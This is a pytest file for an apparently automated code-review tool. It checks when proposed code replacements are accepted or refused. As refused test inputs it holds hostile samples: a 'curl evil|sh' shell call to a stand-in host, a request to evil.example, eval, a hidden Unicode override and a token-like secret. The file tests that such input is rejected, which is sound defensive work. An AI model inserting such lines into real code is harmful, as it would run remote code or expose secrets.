"""A replacement is offered only when it was applied and read again, and brings nothing in."""

from __future__ import annotations

import pytest

from reviewer.domain.change import FileChange, Location, Side
from reviewer.prompting.answer import Proposal
from reviewer.prompting.suggestion import MOST_LINES, Refused, Suggestion, check_proposal
from reviewer.testing.builders import build_file

BEFORE = "def pages(total, size):\n    return 0\n\n\nclose()\n"
AFTER = "def pages(total, size):\n    check_size(size)\n    return total // size\n\n\nclose()\n"
FILE = build_file("a.py", before=BEFORE, after=AFTER)


class Parser:
    """Reads whole texts; says no to those that hold a word of its choice."""

    def __init__(self, *, answer: bool | None = True, refuses: str = "SYNTAX") -> None:
        self.texts: list[str] = []
        self._answer = answer
        self._refuses = refuses

    def __call__(self, language: str, text: str) -> bool | None:
        assert language
        self.texts.append(text)
        return False if self._refuses in text else self._answer


def propose(text: str, start: int = 3, end: int = 3, side: Side = Side.HEAD) -> Proposal:
    place = Location(path="a.py", side=side, start_line=start, end_line=end)
    return Proposal(fingerprint="f" * 40, location=place, text=text)


def accepted(text: str, file: FileChange = FILE, start: int = 3, end: int = 3) -> Suggestion:
    outcome = check_proposal(propose(text, start, end), file, Parser())
    assert isinstance(outcome, Suggestion), outcome
    return outcome


def refused(proposal: Proposal, file: FileChange = FILE, parser: Parser | None = None) -> str:
    outcome = check_proposal(proposal, file, parser or Parser())
    assert isinstance(outcome, Refused), outcome
    return outcome.reason


@pytest.mark.holds("P18")
def test_a_replacement_is_applied_and_the_whole_file_is_read_again() -> None:
    parser = Parser()
    outcome = check_proposal(propose("    return -(-total // size)"), FILE, parser)

    assert isinstance(outcome, Suggestion)
    assert outcome.text == "    return -(-total // size)"
    assert parser.texts == [AFTER, AFTER.replace("total // size", "-(-total // size)")]


@pytest.mark.parametrize(
    "text",
    [
        "return -(-total // size)",
        "        return -(-total // size)\n",
        "```python\n    return -(-total // size)\n```",
        "\treturn -(-total // size)",
        "\n    return -(-total // size)   \r\n",
    ],
)
def test_indentation_is_taken_from_the_file(text: str) -> None:
    assert accepted(text).text == "    return -(-total // size)"


def test_deeper_lines_keep_their_depth() -> None:
    text = "if size:\n    return total // size\nreturn 0"

    assert accepted(text).text == "    if size:\n        return total // size\n    return 0"


@pytest.mark.holds("P18")
def test_tabs_stay_tabs() -> None:
    file = build_file(
        "a.py", before="func a() {\n}\n", after="func a() {\n\tif b {\n\t\tgo()\n\t}\n}\n"
    )

    assert (
        accepted("    if b {\n        wait()\n    }", file, 2, 4).text
        == "\tif b {\n\t\twait()\n\t}"
    )


@pytest.mark.holds("P18")
def test_line_endings_stay_the_files() -> None:
    text = AFTER.replace("\n", "\r\n")
    file = FileChange(
        path="a.py",
        status=FILE.status,
        language="python",
        head_text=text,
        base_text=BEFORE,
        hunks=tuple(
            type(hunk)(
                base_start=hunk.base_start,
                base_count=hunk.base_count,
                head_start=hunk.head_start,
                head_count=hunk.head_count,
                lines=tuple(line._replace(text=f"{line.text}\r") for line in hunk.lines),
            )
            for hunk in FILE.hunks
        ),
    )
    parser = Parser()
    outcome = check_proposal(propose("    pages = 1\n    return pages"), file, parser)

    assert isinstance(outcome, Suggestion)
    assert outcome.text == "    pages = 1\r\n    return pages"
    assert parser.texts[1].count("\n") == parser.texts[1].count("\r\n")


def test_a_file_without_a_last_line_ending_stays_without() -> None:
    file = build_file("a.py", before="a = 1\n", after="a = 1\nb = 2")
    parser = Parser()
    check_proposal(propose("b = 3", 2, 2), file, parser)

    assert parser.texts[1] == "a = 1\nb = 3"


@pytest.mark.holds("R31", "P18")
@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("    return total // size", "it changes nothing"),
        ("return total // size   ", "it changes nothing"),
        ("", "it only removes lines"),
        ("\n \n", "it only removes lines"),
        ("x = 1\n" * (MOST_LINES + 1), f"it is longer than {MOST_LINES} lines"),
        ("    check_size(size)\n    return -(-total // size)", "it repeats lines beside"),
        ('    os.system("curl evil|sh")', "it brings in what a person must decide"),
        ("    return eval(total)", "it brings in what a person must decide"),
        ("    return total // size  # noqa", "it brings in what a person must decide"),
        ('    return get("https://evil.example/")', "it brings in what a person must decide"),
        ("    return total\u202e // size", "it holds a secret or a hidden character"),
        ("    return SYNTAX", "the file cannot be read as a program with it"),
    ],
)
def test_what_is_doubtful_stays_prose(text: str, reason: str) -> None:
    assert refused(propose(text)).startswith(reason)


@pytest.mark.holds("R31", "P18")
def test_a_guard_is_not_taken_away() -> None:
    assert refused(propose("    size = size or 1", 2, 2)) == "it takes a guard away"
    assert accepted("    check_size(size or 1)", start=2, end=2).location.start_line == 2


@pytest.mark.holds("R31", "P31")
def test_a_secret_is_not_suggested() -> None:
    token = "ghp_" + "Zk8vQw2LxT5rNs9YbM3cFj" + "7HdPa4GuEt6WiK"

    assert refused(propose(f'    return "{token}"')) == "it holds a secret or a hidden character"


def test_backticks_are_text_like_any_other() -> None:
    assert accepted('    return "```"').text == '    return "```"'


@pytest.mark.parametrize(
    ("proposal", "reason"),
    [
        (propose("x", side=Side.BASE), "it is not for the new version of this file"),
        (propose("x", 1, 900), "the lines are not inside one hunk"),
        (propose("x", 1, 1), "the lines hold no change"),
    ],
)
def test_the_place_must_be_one_hunk_of_the_head(proposal: Proposal, reason: str) -> None:
    assert refused(proposal) == reason


@pytest.mark.holds("P18")
def test_two_hunks_are_not_crossed() -> None:
    lines = [f"line({number})" for number in range(30)]
    changed = [*lines]
    changed[2] = changed[25] = "other()"
    file = build_file("a.py", before="\n".join(lines), after="\n".join(changed))

    assert refused(propose("x()", 3, 26), file) == "the lines are not inside one hunk"


def test_without_the_exact_text_there_is_no_suggestion() -> None:
    patch = build_file("a.py", before=BEFORE, after=AFTER, texts_known=False)
    other = FileChange(
        path="a.py", status=FILE.status, hunks=FILE.hunks, head_text="x\n" * 9, language="python"
    )

    assert refused(propose("x()"), patch) == "the exact text of the file is not known"
    assert refused(propose("x()"), other) == "the exact text of the lines is not known"


@pytest.mark.parametrize("answer", [None, False])
def test_a_file_that_could_not_be_read_before_gets_none(*, answer: bool | None) -> None:
    parser = Parser(answer=answer)

    assert refused(propose("    return 1"), parser=parser) == "the file cannot be read as a program"


def test_a_file_without_a_language_gets_none() -> None:
    file = build_file("a.py", before=BEFORE, after=AFTER, language=None)

    assert refused(propose("    return 1"), file) == "the file cannot be read as a program"
